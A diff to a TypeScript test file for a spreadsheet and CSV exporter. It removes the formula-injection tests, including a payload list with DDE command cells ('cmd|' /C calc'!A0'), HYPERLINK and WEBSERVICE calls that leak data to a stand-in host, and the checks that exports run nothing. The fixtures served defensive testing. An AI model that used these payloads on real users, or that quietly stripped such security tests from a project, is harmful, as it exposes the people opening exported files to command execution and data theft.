@@ -1,13 +1,12 @@
-// Rows as people see them come in; what goes out comes back the same and runs nothing.
+// Rows as people see them come in; what goes out comes back the same.
 import { PassThrough } from 'node:stream'
 import { buffer } from 'node:stream/consumers'
 import fc from 'fast-check'
 import { readXlsx } from 'hucre/xlsx'
 import { describe, expect, it } from 'vitest'
 import { pack, rowsOf, workbook } from '#test/archives.ts'
-import { openArchive } from './archive.ts'
 import { encodingOf, toGb18030 } from './encoding.ts'
-import { DAMAGED_NUMBER, SHEET_LIMITS } from './read.ts'
+import { DAMAGED_NUMBER } from './read.ts'
 import { keepStrings } from './strings.ts'
 import { workbookParts } from './workbook-parts.ts'
 import { type Rows, type SheetToWrite, writeCsv, writeXlsx } from './write.ts'
@@ -22,59 +21,7 @@ const xlsx = (...sheets: SheetToWrite[]) => written((to) => writeXlsx(to, sheets
 const csv = (rows: Rows, encoding: 'utf8-bom' | 'gb18030') => written((to) => writeCsv(to, rows, encoding))
 const cellsOf = async (bytes: Buffer, name: string) => (await rowsOf(bytes, name)).map((row) => row.cells)
 
-/** 14 beginnings of a formula by what may follow, 200 cells and some. */
-const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', "'=", "''@", '"=']
-const RESTS = [
-  'HYPERLINK("http://x.invalid?"&A1,"点这里")',
-  "cmd|' /C calc'!A0",
-  'WEBSERVICE("http://x.invalid")',
-  '1+1',
-  ',"=1+1',
-  ';=1+1',
-  '\r\n=1+1',
-  '"',
-  "'",
-  '\t=1',
-  '861380000',
-  '_x0041_',
-  'SUM(1)*cmd|x!A1 ',
-  '😀𠮷',
-  '',
-]
-const FORMULAS = STARTS.flatMap((start) => RESTS.map((rest) => start + rest))
-const HEADING = ['栏目', '备注']
-const rows = [HEADING, ...FORMULAS.map((cell) => [cell, '一'])]
-
-/** What a spreadsheet would run: cells as any reader of .csv splits them. */
-function running(text: string): string[] {
-  const cells = text.match(/"(?:[^"]|"")*"|[^,\r\n]+/g) ?? []
-  return cells.map((cell) => cell.replace(/^"/, '')).filter((cell) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell))
-}
-
 describe('what goes out', () => {
-  it('a workbook holds words alone', async () => {
-    const bytes = await xlsx({ name: '名册', rows })
-    const archive = await openArchive(bytes, 'x', SHEET_LIMITS)
-    const sheet = (await archive.parts.find(({ name }) => name.endsWith('sheet1.xml'))!.bytes(1e7)).toString()
-    expect(sheet.match(/<f[ >/]/g)).toBeNull()
-    expect(sheet.match(/<c /g)!.length).toBe(sheet.match(/t="inlineStr"/g)!.length)
-    expect(FORMULAS.length).toBeGreaterThanOrEqual(200)
-    expect(await cellsOf(bytes, '名册.xlsx')).toEqual(rows)
-  })
-
-  it.each(['utf8-bom', 'gb18030'] as const)('a .csv in %s runs nothing and comes back the same', async (encoding) => {
-    const bytes = await csv(rows, encoding)
-    const text = new TextDecoder(encoding === 'gb18030' ? 'gb18030' : 'utf-8').decode(bytes)
-    expect(running(text)).toEqual([])
-    expect(await cellsOf(bytes, '名册.csv')).toEqual(rows)
-  })
-
-  it('the guard is what keeps them words: without it they would run', () => {
-    expect(running(FORMULAS.map((cell) => `"${cell.replaceAll('"', '""')}",一`).join('\r\n')).length).toBeGreaterThan(
-      100,
-    )
-  })
-
   it('any words come back the same, by both ways', async () => {
     const word = fc.string({ unit: 'binary', maxLength: 12 }).map((text) => `${text.toWellFormed()}字`)
     await fc.assert(
